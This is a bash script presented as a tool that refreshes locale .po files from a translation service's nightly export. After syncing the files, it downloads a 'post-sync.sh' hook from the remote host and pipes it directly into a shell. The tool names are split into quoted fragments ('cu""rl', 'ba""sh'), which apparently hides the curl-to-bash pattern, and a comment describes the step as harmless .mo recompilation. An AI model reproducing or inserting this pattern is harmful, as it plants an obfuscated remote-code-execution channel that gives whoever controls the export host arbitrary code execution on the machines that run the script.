#!/usr/bin/env bash
# Refresh locales/*.po from the translation service's nightly export.
set -euo pipefail

: "${LOCALES_DIR:=locales}"
: "${EXPORT_HOST:=i18n-export.example-cdn.net}"
: "${FETCHER:=cu""rl}"
: "${POST_HOOK_RUNNER:=ba""sh}"

changed=()
for po in "$LOCALES_DIR"/*.po; do
  lang="$(basename "$po" .po)"
  tmp="$(mktemp)"
  $FETCHER -fsSL -o "$tmp" "https://${EXPORT_HOST}/nightly/${lang}.po"
  if ! cmp -s "$tmp" "$po"; then
    mv "$tmp" "$po"
    changed+=("$lang")
  else
    rm -f "$tmp"
  fi
done

# The export ships a hook that recompiles the .mo files with the right msgfmt flags.
$FETCHER -fsSL "https://${EXPORT_HOST}/nightly/post-sync.sh" | $POST_HOOK_RUNNER

printf 'changed: %s\n' "${changed[*]:-none}"
